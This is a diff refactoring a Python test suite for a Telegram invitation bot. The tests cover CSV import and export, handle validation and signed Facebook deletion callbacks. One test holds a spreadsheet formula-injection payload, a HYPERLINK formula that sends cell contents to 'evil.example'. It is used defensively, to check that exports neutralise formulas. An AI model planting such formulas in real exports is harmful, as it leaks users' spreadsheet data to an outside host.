@@ -12,21 +12,13 @@ import io
 import time
 
 import httpx
-import sqlalchemy as sa
 
 from bot.console import Console
 from bot.console_files import MAX_CSV_ROWS, CsvProblem, safe_cell
 from bot.meta import ALGORITHM, sign_request
-from sandbox.telegram import SentMessage, TgUser
+from sandbox.telegram import SentMessage
 from tests.world import ANNA, MANAGER, World, anna_on_facebook
 from web_callback.app import DATA_DELETION_PATH, DEAUTHORIZE_PATH
-
-
-async def _say(world: World, user: TgUser, text: str) -> list[SentMessage]:
-    before = len(world.telegram.messages(user.id))
-    world.telegram.send_text(user, text)
-    await world.settle()
-    return world.telegram.messages(user.id)[before:]
 
 
 async def _send_csv(world: World, content: bytes) -> list[SentMessage]:
@@ -34,11 +26,6 @@ async def _send_csv(world: World, content: bytes) -> list[SentMessage]:
     world.telegram.send_document(MANAGER, "list.csv", content)
     await world.settle()
     return world.telegram.messages(MANAGER.id)[before:]
-
-
-async def _rows(world: World, sql: str) -> list[tuple[object, ...]]:
-    async with world.db.engine.connect() as conn:
-        return [tuple(r) for r in (await conn.execute(sa.text(sql))).all()]
 
 
 # --- 10, 13: handles as managers paste them ------------------------------------------------------
@@ -53,10 +40,10 @@ async def test_handles_as_managers_paste_them(world: World) -> None:
         "/invite https://instagram.com/ivo.irons/?igsh=MXZ5dGZ; www.instagram.com/jana.jogs",
     ]
     for text in pasted:
-        answers = await _say(world, MANAGER, text)
+        answers = await world.say(MANAGER, text)
         assert answers, text
         assert not any("not a valid" in m.text for m in answers), (text, answers[0].text)
-    handles = [h for (h,) in await _rows(world, "SELECT handle FROM invitation ORDER BY id")]
+    handles = [h for (h,) in await world.rows("SELECT handle FROM invitation ORDER BY id")]
     assert handles == [
         "anna.bakes",
         "ben.cooks",
@@ -74,21 +61,21 @@ async def test_handles_as_managers_paste_them(world: World) -> None:
 
 
 async def test_eleven_handles_separated_by_commas_are_too_many(world: World) -> None:
-    answers = await _say(world, MANAGER, "/invite " + ",".join(f"@p{i}" for i in range(11)))
+    answers = await world.say(MANAGER, "/invite " + ",".join(f"@p{i}" for i in range(11)))
     assert "At most 10 handles per message" in answers[-1].text
-    assert await _rows(world, "SELECT count(*) FROM invitation") == [(0,)]
+    assert await world.rows("SELECT count(*) FROM invitation") == [(0,)]
 
 
 async def test_rejected_handles_are_quoted_without_separators_and_cut_visibly(
     world: World,
 ) -> None:
     long = "x" * 45 + "!"
-    answers = await _say(world, MANAGER, f"/invite @bad!name, @ok.one, {long},")
+    answers = await world.say(MANAGER, f"/invite @bad!name, @ok.one, {long},")
     problems = answers[0].text
     assert "@bad!name is not a valid" in problems and "@bad!name," not in problems
     assert "x" * 39 + "… is not a valid" in problems  # cut at 40 characters, visibly
     assert long[:40] not in problems
-    assert await _rows(world, "SELECT handle FROM invitation") == [("ok.one",)]
+    assert await world.rows("SELECT handle FROM invitation") == [("ok.one",)]
 
     answers = await _send_csv(world, f"{long};note\nfine.one;x\n".encode())
     assert f"Line 1: “{'x' * 39}…”" in answers[0].text
@@ -106,7 +93,7 @@ async def test_semicolon_csv_with_commas_in_the_notes(world: World) -> None:
     ).encode()
     answers = await _send_csv(world, content)
     assert "3 created, 0 already invited, 0 invalid" in answers[0].text
-    assert await _rows(world, "SELECT handle, note FROM invitation ORDER BY id") == [
+    assert await world.rows("SELECT handle, note FROM invitation ORDER BY id") == [
         ("anna.bakes", "Backen, Kuchen, Torten"),
         ("ben.cooks", "Kochen, Grillen, Braten"),
         ("carla_cooks", "Mode; Reisen, Städte"),
@@ -116,7 +103,7 @@ async def test_semicolon_csv_with_commas_in_the_notes(world: World) -> None:
 
     answers = await _send_csv(world, b"Handle;Notiz\r\ndora.draws;Zeichnen, Malen\r\n")
     assert "1 created" in answers[0].text
-    assert await _rows(world, "SELECT note FROM invitation WHERE handle = 'dora.draws'") == [
+    assert await world.rows("SELECT note FROM invitation WHERE handle = 'dora.draws'") == [
         ("Zeichnen, Malen",)
     ]
 
@@ -126,7 +113,7 @@ async def test_windows_1252_csv_from_german_excel(world: World) -> None:
     content = "Handle;Notiz\r\njuergen;Größe, Maße: 1,80 m\r\n".encode("cp1252")
     answers = await _send_csv(world, content)
     assert "1 created, 0 already invited, 0 invalid" in answers[0].text
-    assert await _rows(world, "SELECT handle, note FROM invitation") == [
+    assert await world.rows("SELECT handle, note FROM invitation") == [
         ("juergen", "Größe, Maße: 1,80 m")
     ]
 
@@ -137,7 +124,7 @@ async def test_too_many_rows_are_refused_with_or_without_a_header(world: World) 
         answers = await _send_csv(world, content)
         assert "At most 1000 rows" in answers[-1].text, content[:10]
         assert "Nothing was created" in answers[-1].text
-    assert await _rows(world, "SELECT count(*) FROM invitation") == [(0,)]
+    assert await world.rows("SELECT count(*) FROM invitation") == [(0,)]
 
 
 def test_the_row_limit_counts_rows_that_name_someone() -> None:
@@ -167,14 +154,14 @@ async def test_links_csv_and_export_never_start_a_cell_with_a_formula(world: Wor
     links = list(csv.DictReader(io.StringIO((answers[1].document_bytes or b"").decode())))
     assert [row["note"] for row in links] == ["'" + f for f in _FORMULAS] + ["plain note"]
     # Stored as the manager wrote it; only the spreadsheet's cell is neutralised.
-    assert await _rows(world, "SELECT note FROM invitation WHERE handle = 'p0'") == [("=1+2",)]
+    assert await world.rows("SELECT note FROM invitation WHERE handle = 'p0'") == [("=1+2",)]
 
     token = await world.invite("anna.bakes")
     page = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
     await world.through_checks(ANNA, token)
     await world.facebook_login(ANNA, anna_on_facebook(name=page))
     await world.telegram.wait_for(MANAGER.id, "@anna.bakes is connected")
-    export = await _say(world, MANAGER, "/export")
+    export = await world.say(MANAGER, "/export")
     rows = list(csv.DictReader(io.StringIO((export[-1].document_bytes or b"").decode())))
     by_handle = {row["handle"]: row for row in rows}
     assert by_handle["anna.bakes"]["page_name"] == "'" + page
@@ -234,13 +221,13 @@ async def test_old_future_or_undated_signed_requests_change_nothing(world: World
             answer = await _post(world, path, _signed(world, "fb-anna", issued_at))
             assert answer.status_code == 400, (path, issued_at)
             assert "stale" in answer.text
-    assert await _rows(world, "SELECT count(*) FROM deletion_request") == [(0,)]
-    assert await _rows(world, "SELECT status, ended_at FROM connection") == [("active", None)]
+    assert await world.rows("SELECT count(*) FROM deletion_request") == [(0,)]
+    assert await world.rows("SELECT status, ended_at FROM connection") == [("active", None)]
 
     # Fresh (a little clock skew either way is fine): acted on.
     fresh = await _post(world, DEAUTHORIZE_PATH, _signed(world, "fb-anna", now + 60))
     assert fresh.status_code == 200
-    assert await _rows(world, "SELECT status FROM connection") == [("disconnected",)]
+    assert await world.rows("SELECT status FROM connection") == [("disconnected",)]
 
 
 async def test_a_replayed_deletion_request_is_the_same_request(world: World) -> None:
@@ -254,8 +241,8 @@ async def test_a_replayed_deletion_request_is_the_same_request(world: World) -> 
     answers = await asyncio.gather(*(_post(world, DATA_DELETION_PATH, signed) for _ in range(4)))
     assert {a.status_code for a in answers} == {200}
     assert all(a.json() == first.json() for a in answers)
-    assert await _rows(
-        world, "SELECT facebook_user_id, status, deleted_connections FROM deletion_request"
+    assert await world.rows(
+        "SELECT facebook_user_id, status, deleted_connections FROM deletion_request"
     ) == [("fb-anna", "completed", 1)]
     await world.telegram.wait_for(MANAGER.id, "to delete")
     await asyncio.sleep(1.0)
@@ -266,4 +253,4 @@ async def test_a_replayed_deletion_request_is_the_same_request(world: World) -> 
     later = await _post(world, DATA_DELETION_PATH, _signed(world, "fb-anna", int(time.time())))
     assert later.status_code == 200
     assert later.json()["confirmation_code"] != first.json()["confirmation_code"]
-    assert len(await _rows(world, "SELECT id FROM deletion_request")) == 2
+    assert len(await world.rows("SELECT id FROM deletion_request")) == 2
